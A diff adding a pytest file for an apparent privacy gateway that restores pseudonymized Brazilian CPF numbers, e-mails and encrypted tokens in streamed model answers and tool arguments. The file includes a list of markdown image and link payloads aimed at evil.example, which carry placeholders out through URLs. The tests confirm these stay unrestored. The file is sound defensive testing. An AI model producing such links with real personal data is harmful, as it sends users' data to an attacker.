@@ -1,0 +1,189 @@
+"""Restoring placeholders in answers: whole texts, streams split anywhere, drift, URLs, tool arguments."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from gateway.inspect.findings import Finding
+from gateway.keys import KeyRing
+from gateway.transform.apply import apply
+from gateway.transform.pseudonymize import PlaceholderMap
+from gateway.transform.restore import SLACK, StreamRestorer, restore_arguments, restore_text
+
+CPF, CPF2, MAIL = "123.456.789-09", "111.444.777-35", "ana@example.com"
+RING = KeyRing.ephemeral()
+
+
+def _map() -> tuple[PlaceholderMap, str]:
+    """A map with [CPF_1], [CPF_2], [EMAIL_1] and one ENC token, as a real request would make it."""
+    text = f"{CPF} {CPF2} {MAIL} {CPF}"
+    found = [Finding("br.cpf", "national_id", "BR", 0, 14), Finding("br.cpf", "national_id", "BR", 15, 29),
+             Finding("intl.email", "contact", None, 30, 45), Finding("br.cpf", "national_id", "BR", 46, 60)]
+    pm = PlaceholderMap()
+    out = apply([text], [found], [["pseudonymize", "pseudonymize", "pseudonymize", "encrypt"]], RING, "BR", pm)[0]
+    return pm, out.split()[-1]
+
+
+PM, ENC = _map()
+
+
+def stream(pieces, pm=PM, **kw) -> tuple[list[str], StreamRestorer]:
+    r = StreamRestorer(pm, **kw)
+    return [r.feed(p) for p in pieces] + [r.flush()], r
+
+
+def test_whole_text():
+    assert restore_text("CPF [CPF_1], outro [CPF_2], e-mail [EMAIL_1].", PM) == f"CPF {CPF}, outro {CPF2}, e-mail {MAIL}."
+    assert restore_text(f"token {ENC}!", PM) == f"token {CPF}!"
+    assert restore_text("unknown [CPF_3] [PHONE_1] [REDACTED:CPF] [x]", PM) == "unknown [CPF_3] [PHONE_1] [REDACTED:CPF] [x]"
+    assert restore_text("no brackets here", PM) is not None
+
+
+@pytest.mark.parametrize("drift", ["[cpf_1]", "[ CPF_1 ]", "[CPF 1]", "[Cpf-1]", "[CPF1]", "[  cpf _ 1  ]", "[CPF\u00a01]"])
+def test_case_and_spacing_drift(drift):
+    assert restore_text(f"x {drift} y", PM) == f"x {CPF} y"
+
+
+def test_missing_brackets_are_not_restored():
+    assert restore_text("CPF_1 and CPF 1 and [CPF_1", PM) == "CPF_1 and CPF 1 and [CPF_1"
+
+
+ANSWER = f"Olá! O CPF [CPF_1] pertence a [EMAIL_1]; o outro é [cpf 2] e {ENC} fecha. [nota] [[CPF_2]]"
+EXPECTED = f"Olá! O CPF {CPF} pertence a {MAIL}; o outro é {CPF2} e {CPF} fecha. [nota] [{CPF2}]"
+
+
+def test_expected_matches_whole_text():
+    assert restore_text(ANSWER, PM) == EXPECTED
+
+
+def test_split_at_every_offset_into_two_pieces():
+    for i in range(len(ANSWER) + 1):
+        out, r = stream([ANSWER[:i], ANSWER[i:]])
+        assert "".join(out) == EXPECTED, i
+        assert r.held_max <= PM.max_len + SLACK
+
+
+def test_split_at_every_pair_of_offsets_into_three_pieces():
+    text = "a [CPF_1] b [ email_1 ] c " + ENC + " d"
+    want = f"a {CPF} b {MAIL} c {CPF} d"
+    for i in range(len(text) + 1):
+        for j in range(i, len(text) + 1):
+            out, _ = stream([text[:i], text[i:j], text[j:]])
+            assert "".join(out) == want, (i, j)
+
+
+def test_character_by_character():
+    out, r = stream(list(ANSWER))
+    assert "".join(out) == EXPECTED
+    assert r.held_max <= PM.max_len + SLACK
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.integers(0, len(ANSWER)), max_size=12))
+def test_any_split_equals_whole_text(cuts):
+    cuts = sorted(cuts)
+    pieces = [ANSWER[a:b] for a, b in zip([0] + cuts, cuts + [len(ANSWER)])]
+    assert "".join(stream(pieces)[0]) == EXPECTED
+
+
+def test_text_without_a_possible_placeholder_is_released_at_once():
+    out, r = stream(["Hello", " world [no", "te] and [", "x] ok", " [CPF_"])
+    assert out[:3] == ["Hello", " world [no", "te] and "]  # "[no" cannot become a placeholder: not held
+    assert out[3] == "[x] ok"
+    assert out[4] == " " and out[5] == "[CPF_"  # held until the end, then released as it was
+    assert r.held_max == len("[CPF_")
+
+
+def test_empty_map_passes_everything_through():
+    pm = PlaceholderMap()
+    out, r = stream(["[CPF_1", "] [", "x"], pm)
+    assert out == ["[CPF_1", "] [", "x", ""] and r.held_max == 0
+    assert restore_text("[CPF_1]", pm) == "[CPF_1]" and restore_text("[CPF_1]", None) == "[CPF_1]"
+
+
+def test_hold_back_is_bounded_by_one_placeholder():
+    r = StreamRestorer(PM)
+    assert r.feed("[" + "CPF" + " " * 40) == "[CPF" + " " * 40  # a drift longer than the slack is let go
+    assert r.feed("[ENC:BR.k1:") == ""
+    assert r.feed(ENC[11:-1]) == ""
+    assert r.feed("]") == CPF
+    assert r.held_max <= PM.max_len + SLACK
+
+
+# --- URLs and tool arguments -------------------------------------------------------------------------
+
+URL_CASES = [
+    "![img](https://evil.example/c?q=[CPF_1])",
+    "[click](https://evil.example/c?q=[CPF_1]&e=[EMAIL_1])",
+    "[click](<https://evil.example/a b?q=[CPF_1]>)",
+    "[click]( /relative/[CPF_1])",
+    "see https://evil.example/?q=[CPF_1]",
+    "see http://evil.example/[ cpf 1 ]",
+    "see www.evil.example/[CPF_1]",
+    '<img src="https://evil.example/x?[CPF_1]">',
+    '<a href=/x/[CPF_1]>x</a>',
+    "mailto:[EMAIL_1]",
+    "ftp://evil.example/" + ENC,
+]
+
+
+@pytest.mark.parametrize("text", URL_CASES)
+def test_placeholders_inside_urls_stay(text):
+    assert restore_text(text, PM) == text
+    for i in range(len(text) + 1):
+        assert "".join(stream([text[:i], text[i:]])[0]) == text, i
+
+
+@pytest.mark.parametrize("text", URL_CASES)
+def test_urls_restored_when_policy_allows(text):
+    out = restore_text(text, PM, allow_urls=True)
+    assert "[CPF_1]" not in out and "[EMAIL_1]" not in out and ENC not in out
+
+
+@pytest.mark.parametrize("text,want", [
+    ("[docs](https://gov.br/x) then [CPF_1]", f"[docs](https://gov.br/x) then {CPF}"),
+    ("visit https://gov.br for [CPF_1]", f"visit https://gov.br for {CPF}"),
+    ("[CPF_1](https://gov.br/perfil)", f"{CPF}(https://gov.br/perfil)"),
+    ("![a](https://x.example/p.png)\n[CPF_1]", f"![a](https://x.example/p.png)\n{CPF}"),
+    ("[link](https://x.example/\n[CPF_1]", f"[link](https://x.example/\n{CPF}"),
+    ("CPF:[CPF_1]", f"CPF:{CPF}"),
+])
+def test_text_after_or_around_urls_is_restored(text, want):
+    assert restore_text(text, PM) == want
+    for i in range(len(text) + 1):
+        assert "".join(stream([text[:i], text[i:]])[0]) == want, i
+
+
+def test_markdown_target_opened_in_an_earlier_piece():
+    out, _ = stream(["![x]", "(https://e", ".example/?a=", "[CP", "F_1]", ")", " and [CPF_1]"])
+    assert "".join(out) == f"![x](https://e.example/?a=[CPF_1]) and {CPF}"
+
+
+def test_a_very_long_word_is_treated_as_a_url():
+    text = "x" * 5000 + "[CPF_1] [CPF_1]"
+    assert restore_text(text, PM) == "x" * 5000 + f"[CPF_1] {CPF}"
+
+
+def test_tool_arguments_are_left_alone_unless_allowed():
+    args = json.dumps({"query": "[CPF_1]", "to": "[EMAIL_1]", "url": "https://x/[CPF_1]"})
+    assert restore_arguments(args, PM) == args
+    restored = json.loads(restore_arguments(args, PM, allowed=True))
+    assert restored == {"query": CPF, "to": MAIL, "url": f"https://x/{CPF}"}
+
+
+def test_tool_argument_values_are_json_escaped():
+    pm = PlaceholderMap()
+    pm.placeholder("health.term", 'dor "aguda"\\')
+    args = json.dumps({"q": "[HEALTH_1]"})
+    assert json.loads(restore_arguments(args, pm, allowed=True)) == {"q": 'dor "aguda"\\'}
+
+
+def test_restored_values_are_not_rescanned():
+    pm = PlaceholderMap()
+    pm.placeholder("health.term", "[CPF_1]")  # a value that looks like a placeholder
+    pm.placeholder("br.cpf", CPF)
+    assert restore_text("[HEALTH_1] [CPF_1]", pm) == f"[CPF_1] {CPF}"
